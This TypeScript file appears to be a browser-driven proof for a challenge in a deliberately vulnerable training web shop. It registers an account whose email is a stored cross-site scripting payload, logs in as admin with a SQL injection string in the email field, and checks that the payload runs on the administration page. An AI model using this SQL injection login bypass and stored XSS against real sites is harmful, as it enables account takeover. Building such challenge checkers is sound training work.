import { ALERT_PAYLOAD, proveInBrowser, runsPayload } from '@fruit/challenge-kit/browser-proof'
import { challenge } from './challenge.ts'

const PASSWORD = 'ripe plums'

export const browserProof = proveInBrowser(challenge, async (player) => {
  const { client, enter, open, page } = player
  const account = { email: ALERT_PAYLOAD, password: PASSWORD, passwordRepeat: PASSWORD }
  // A fix may refuse invalid e-mails.
  if ((await client.post('/api/Users', account)).status >= 400) return false
  const login = await client.post('/rest/user/login', { email: `admin@${client.domain}'--`, password: 'x' })
  await enter(login.json().authentication.token)
  await open('/administration')
  const users = page.getByRole('region', { name: 'Registered users' })
  const stored = users.locator('[role=rowheader]:has(iframe), [role=rowheader]:has-text("iframe")')
  await users.locator('mat-row').first().waitFor()
  // Uses the keyboard because notifications may cover the button.
  while ((await stored.count()) === 0) await users.getByRole('button', { name: 'Next page' }).press('Enter')
  return runsPayload(player, stored.first())
})
